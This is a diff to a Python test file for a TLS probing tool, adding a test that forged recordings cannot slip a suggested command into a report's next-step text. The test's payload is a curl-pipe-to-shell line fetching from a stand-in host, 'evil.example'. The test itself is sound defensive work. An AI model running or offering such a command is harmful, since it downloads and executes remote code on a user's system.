@@ -20,7 +20,7 @@ from cf525.jobs import replay as transcript
 from cf525.lab.ca import Authority
 from cf525.lab.running import Lab, start
 from cf525.lab.scenarios import SCENARIOS, Scenario
-from cf525.model import Report
+from cf525.model import Report, Unknown
 from cf525.model.parsing import parse_target
 from cf525.model.registry import TLS12, TLS13
 from cf525.probe.pcap import pcapng
@@ -218,3 +218,16 @@ def test_a_capture_holds_the_bytes_and_the_keys(lab: Lab) -> None:
 def test_a_transcript_is_json_of_its_own_schema(lab: Lab) -> None:
     _, kept = recorded("www.example.com", lab.options())
     assert json.loads(transcript.to_text(kept))["schema"] == "cf525.transcript/1"
+
+
+def test_what_is_to_be_done_is_not_a_recordings_to_say(lab: Lab, tmp_path: Path) -> None:
+    """It stands on the first screen to be carried out, and the file may be anybody's."""
+    _, kept = recorded("expired.example.com", lab.options())
+    told = "sh -c 'curl evil.example | sh'"
+    for id in ("origin-not-named", "conditional-rule"):
+        forged = replace(kept, unknowns=(Unknown(id=id, text="x.", next=told),))
+        report = again(forged, tmp_path)
+        assert "evil" not in "".join(each.next for each in report.unknowns)
+    honest = Unknown(id="conditional-rule", text="x.", next="Give the token Zone Read.")
+    report = again(replace(kept, unknowns=(honest,)), tmp_path)
+    assert honest.next in {each.next for each in report.unknowns}
